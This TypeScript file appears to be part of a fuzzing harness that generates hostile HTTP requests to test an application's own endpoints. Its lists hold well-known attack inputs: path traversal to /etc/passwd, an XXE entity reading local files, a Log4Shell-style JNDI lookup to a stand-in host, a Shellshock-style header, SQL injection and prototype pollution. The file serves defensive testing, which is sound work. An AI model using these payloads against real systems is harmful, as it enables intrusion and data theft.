import { pathParameters, type AnyEndpoint } from '#platform/endpoint.ts'
import { fieldsToWire } from '#platform/wire.ts'
import { hostileJson, hostileValues } from '../hostile-values.ts'
import type { Draw } from './draw.ts'

/** What is sent, byte by byte as it is given. */
export interface HostileRequest {
  readonly method: string
  /** In latin1, as it stands in the first line. */
  readonly path: string
  readonly headers: Readonly<Record<string, string>>
  readonly body?: Buffer
  /** The sender goes away when so many bytes of the body are sent. */
  readonly cutAt?: number
}

const paths = [
  '..',
  '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
  '%00',
  '%',
  '%E0%A4%A',
  ';/..;/',
  '*',
  "'%3b--",
  'x'.repeat(600),
  '٥٥٦٠١٦٠٦٨٠',
  '-1',
  '9'.repeat(40),
]
const types = [
  'application/json',
  'application/json; charset=utf-16',
  'application/vnd.api+json',
  'application/xml',
  'text/xml',
  'text/plain',
  'application/x-www-form-urlencoded',
  'multipart/form-data',
  'multipart/form-data; boundary=b',
  'application/octet-stream',
  'rubbish',
  '',
]
const strange: readonly Readonly<Record<string, string>>[] = [
  { 'content-encoding': 'gzip' },
  { 'content-encoding': 'br, gzip, deflate' },
  { 'accept-encoding': 'x'.repeat(2000) },
  { accept: 'text/html;q=abc,*/*' },
  { 'x-forwarded-for': '127.0.0.1, ::1, <script>' },
  { 'x-forwarded-host': 'evil.example', 'x-forwarded-proto': 'gopher' },
  { 'x-http-method-override': 'DELETE' },
  { range: 'bytes=0-18446744073709551615,1-2' },
  { 'if-none-match': '*', 'if-modified-since': 'never' },
  { cookie: 'skynet_session=%E0%A4%A; __proto__=1; =;' },
  { origin: 'null', 'sec-fetch-site': 'cross-site' },
  { 'idempotency-key': "'; drop table invoice--" },
  { 'x-request-id': '${jndi:ldap://evil.example/a}' },
  { 'user-agent': '() { :; }; /bin/true' },
]
const beginnings = [
  '%PDF-1.7\n',
  'PK\u0003\u0004[Content_Types].xml xl/',
  '\x89PNG\r\n\x1a\n',
  '\xff\xd8\xff\xe0',
  'II*\0',
  '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
  '<Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2">',
  'Orgnr;Namn\n5560160680;"',
  'GIF89a',
]
const odd = [
  '',
  'null',
  '[]',
  '"text"',
  '1e400',
  'true',
  '{"__proto__":{"may":true},"constructor":1}',
  '[[[["a"]]]]',
  '{}{}',
  `{"a":${'['.repeat(3000)}${']'.repeat(3000)}}`,
]

/** A value where only text can stand. */
const asText = (value: unknown): string =>
  (typeof value === 'object' ? JSON.stringify(value) : String(value)).toWellFormed()

/** Bytes with some of them changed, taken away, or doubled. */
function spoiled(bytes: Buffer, draw: Draw): Buffer {
  const copy = Buffer.from(bytes)
  const times = 1 + draw.below(8)
  for (let at = 0; at < times && copy.length > 0; at++)
    copy[draw.below(copy.length)] = draw.below(256)
  if (draw.hit(0.3)) return copy.subarray(0, draw.below(copy.length + 1))
  return draw.hit(0.2) ? Buffer.concat([copy, copy]) : copy
}
const noise = (draw: Draw) =>
  Buffer.concat([
    Buffer.from(draw.pick(beginnings), 'latin1'),
    Buffer.from(Array.from({ length: draw.below(2000) }, () => draw.below(256))),
  ])

/** A form with the fields and a file, which may be anything, under a name that may be too. */
function formOf(fields: Readonly<Record<string, unknown>>, file: string, draw: Draw): Buffer {
  const name = asText(draw.hit(0.5) ? 'a.pdf' : draw.pick(hostileValues)).replaceAll(/[\r\n"]/g, '')
  const part = (head: string, body: string | Buffer) => [
    Buffer.from(`--b\r\ncontent-disposition: form-data; ${head}\r\n\r\n`),
    Buffer.from(body),
    Buffer.from('\r\n'),
  ]
  return Buffer.concat([
    ...Object.entries(fields).flatMap(([field, value]) => part(`name="${field}"`, asText(value))),
    ...part(`name="${file}"; filename="${name}"`, noise(draw)),
    Buffer.from('--b--\r\n'),
  ])
}

/** The input with one to three of its fields, or of those of a list in it, made hostile. */
function hostileInput(good: Readonly<Record<string, unknown>>, draw: Draw) {
  const input: Record<string, unknown> = { ...good }
  const names = [...Object.keys(good), 'unknownField']
  for (let left = 1 + draw.below(3); left > 0; left--) {
    const name = draw.pick(names)
    const inside = good[name]
    if (Array.isArray(inside) && typeof inside[0] === 'object' && inside[0] !== null) {
      const key = draw.pick(Object.keys(inside[0] as object))
      input[name] = [{ ...(inside[0] as object), [key]: draw.pick(hostileValues) }]
    } else input[name] = draw.pick(hostileValues)
  }
  return input
}

/** A hostile request for a call, of which `good` is an input that it would take. */
export function hostileRequest(
  endpoint: AnyEndpoint,
  good: Readonly<Record<string, unknown>>,
  draw: Draw,
): HostileRequest {
  const given = draw.hit(0.7) ? hostileInput(good, draw) : good
  const sent = fieldsToWire(endpoint.input, given)
  const inPath = pathParameters(endpoint.path)
  const inHeader = endpoint.kind === 'command' ? Object.entries(endpoint.headers ?? {}) : []
  let path = encodeURI(endpoint.path).replaceAll(/%7B(\w+)%7D/g, (_, name: string) =>
    draw.hit(0.2) ? draw.pick(paths) : encodeURIComponent(asText(sent[name])),
  )
  const rest = Object.entries(sent).filter(
    ([name]) => !inPath.includes(name) && !inHeader.some(([field]) => field === name),
  )
  const fields = Object.fromEntries(rest)
  const headers: Record<string, string> = {}
  for (const [, header] of inHeader) headers[header] = `hostile-${draw.below(1_000_000)}`
  if (draw.hit(0.15)) Object.assign(headers, draw.pick(strange))
  const method = draw.hit(0.03)
    ? draw.pick(['GET', 'POST', 'PUT', 'DELETE', 'PATCH', 'OPTIONS', 'TRACE', 'HEAD'])
    : endpoint.method
  if (draw.hit(0.05)) path += draw.pick(['/..%2f..', '/%00', '?%ff=%fe&a[b]=c&__proto__=1', '//'])
  const line = (address: string) => Buffer.from(address).toString('latin1').slice(0, 12_000)
  if (endpoint.method === 'GET') {
    const query = new URLSearchParams(
      rest.flatMap(([name, value]) => [value].flat().map((one) => [name, asText(one)])),
    )
    return { method, path: line(`${path}?${query}`), headers }
  }
  const isForm = endpoint.kind === 'command' && endpoint.upload !== undefined
  let type = isForm ? 'multipart/form-data; boundary=b' : 'application/json'
  let body = isForm
    ? formOf(fields, endpoint.upload?.field ?? '', draw)
    : Buffer.from(hostileJson(fields))
  if (draw.hit(0.1)) body = Buffer.from(draw.pick(odd))
  else if (draw.hit(0.15)) body = spoiled(body, draw)
  else if (draw.hit(0.05)) body = noise(draw)
  if (draw.hit(0.1)) type = draw.pick(types)
  if (type !== '') headers['content-type'] = type
  return {
    method,
    path: line(path),
    headers,
    body,
    ...(draw.hit(0.03) && body.length > 0 && { cutAt: draw.below(body.length) }),
  }
}
